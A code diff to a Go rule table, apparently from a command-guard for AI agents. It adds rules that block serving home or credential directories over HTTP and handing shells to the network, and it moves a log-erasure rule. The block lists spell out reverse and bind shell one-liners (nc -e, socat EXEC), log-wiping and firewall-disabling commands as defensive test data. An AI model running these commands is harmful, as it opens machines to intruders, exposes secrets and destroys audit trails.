@@ -137,6 +137,16 @@ var table = []*Rule{
 			`openssl req -x509 -newkey rsa:2048 -nodes -keyout server.key -out server.crt -subj /CN=localhost`,
 		},
 	},
+	{
+		ID: "secrets.home-served", Category: "secrets",
+		Protects: "the home directory, the root file system and credential directories, from being served over HTTP to anyone who can reach the port",
+		What:     "serves the home directory over HTTP",
+		Safer:    "serve the directory the task needs (the workspace's build output), bound to 127.0.0.1",
+		Unknown:  noUnknownStory,
+		Commands: allCommands, exec: checkHomeServed,
+		Block: []string{`python3 -m http.server 8000 --directory ~`, `cd ~ && python3 -m http.server`, `php -S 0.0.0.0:8000 -t $HOME`, `npx http-server ~ -p 8080`, `python -m SimpleHTTPServer 80 --directory /`, `python3 -m http.server -d ~/.ssh`},
+		Allow: []string{`python3 -m http.server 8000`, `python3 -m http.server --directory dist`, `php -S localhost:8000 -t public`, `npx http-server ./build`, `npx serve dist`, `ruby -run -e httpd . -p 8000`},
+	},
 	// rce: code nobody has read.
 	{
 		ID: "secrets.hunt", Category: "secrets",
@@ -280,6 +290,17 @@ var table = []*Rule{
 			`parallel echo ::: a b c`,
 		},
 	},
+	{
+		ID: "rce.remote-shell", Category: "rce",
+		Protects: "the machine, from a shell or interpreter handed to the network: bind and reverse shells (nc -e, ncat --sh-exec, socat EXEC:), terminals served on the web or shared by link (gotty, ttyd, tmate)",
+		What:     "gives a shell to whoever connects",
+		Safer:    "run the program the task needs directly; ask the user before exposing a terminal to the network",
+		Unknown:  noUnknownStory,
+		Commands: []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "socat", "gotty", "ttyd", "shellinaboxd", "wetty", "tty-share", "sshx", "upterm", "tmate"},
+		exec:     checkRemoteShell,
+		Block:    []string{`nc -lvnp 4444 -e /bin/bash`, `nc 10.0.0.5 9001 -e /bin/sh`, `ncat --sh-exec "bash -i" -l 8080`, `socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/bash,pty,stderr`, `socat TCP:203.0.113.7:4444 EXEC:sh`, `gotty -w bash`, `ttyd -W zsh`, `tmate`},
+		Allow:    []string{`nc -zv example.com 443`, `nc -l 8080 > received.txt`, `ncat -l 9000 --keep-open`, `socat TCP-LISTEN:8080,fork TCP:localhost:3000`, `socat - TCP:example.com:80`, `gotty top`, `tmate -V`},
+	},
 	// proc
 	{
 		ID: "proc.fork-bomb", Category: "proc",
@@ -340,16 +361,6 @@ while True: os.fork()"`,
 		exec:     checkDefenceOff,
 		Block:    []string{`iptables -F`, `sudo iptables -t nat --flush`, `iptables -P INPUT ACCEPT`, `nft flush ruleset`, `ufw disable`, `ufw default allow incoming`, `setenforce 0`, `systemctl disable --now firewalld`, `sudo service auditd stop`, `auditctl -D`, `aa-teardown`, `firewall-cmd --set-default-zone=trusted`},
 		Allow:    []string{`iptables -L -n`, `iptables -A INPUT -p tcp --dport 8080 -j ACCEPT`, `nft list ruleset`, `ufw status`, `ufw allow 22/tcp`, `getenforce`, `systemctl status firewalld`, `systemctl restart nginx`, `auditctl -l`, `service apparmor status`},
-	},
-	{
-		ID: "fs.logs-erased", Category: "fs",
-		Protects: "live system logs under /var/log and the login records (wtmp, btmp, lastlog), from being emptied, deleted, shredded or moved away",
-		What:     "erases a system log",
-		Safer:    "leave system logs alone; rotated archives (syslog.1, *.gz) may be removed, and logrotate or journalctl --vacuum-time with a span of days keeps what matters",
-		Unknown:  noUnknownStory,
-		Commands: allCommands, exec: checkLogsErased,
-		Block: []string{`> /var/log/syslog`, `sudo truncate -s 0 /var/log/auth.log`, `rm /var/log/secure`, `shred -u /var/log/wtmp`, `cp /dev/null /var/log/lastlog`, `journalctl --vacuum-time=1s`, `echo -n | sudo tee /var/log/nginx/access.log`},
-		Allow: []string{`tail -f /var/log/syslog`, `echo started >> /var/log/app.log`, `rm /var/log/nginx/access.log.2.gz`, `sudo rm /var/log/syslog.1`, `journalctl --vacuum-time=2weeks`, `grep error /var/log/syslog > errors.txt`, `> app.log`},
 	},
 	// fs: deletes.
 	{
@@ -458,6 +469,16 @@ while True: os.fork()"`,
 		Commands: allCommands, exec: checkHomeEmptied,
 		Block: []string{`> ~/.bash_history`, `: > ~/.gitconfig`, `truncate -s 0 ~/.ssh/known_hosts`, `cp /dev/null ~/.config/app.json`, `cp /dev/null .env`, `ln -sf /dev/null ~/.zsh_history`},
 		Allow: []string{`> out.log`, `echo hi > ~/notes.txt`, `truncate -s 0 build/app.log`, `cat ~/.gitconfig`},
+	},
+	{
+		ID: "fs.logs-erased", Category: "fs",
+		Protects: "live system logs under /var/log and the login records (wtmp, btmp, lastlog), from being emptied, deleted, shredded or moved away",
+		What:     "erases a system log",
+		Safer:    "leave system logs alone; rotated archives (syslog.1, *.gz) may be removed, and logrotate or journalctl --vacuum-time with a span of days keeps what matters",
+		Unknown:  noUnknownStory,
+		Commands: allCommands, exec: checkLogsErased,
+		Block: []string{`> /var/log/syslog`, `sudo truncate -s 0 /var/log/auth.log`, `rm /var/log/secure`, `shred -u /var/log/wtmp`, `cp /dev/null /var/log/lastlog`, `journalctl --vacuum-time=1s`, `echo -n | sudo tee /var/log/nginx/access.log`},
+		Allow: []string{`tail -f /var/log/syslog`, `echo started >> /var/log/app.log`, `rm /var/log/nginx/access.log.2.gz`, `sudo rm /var/log/syslog.1`, `journalctl --vacuum-time=2weeks`, `grep error /var/log/syslog > errors.txt`, `> app.log`},
 	},
 	{
 		ID: "fs.user-delete", Category: "fs",
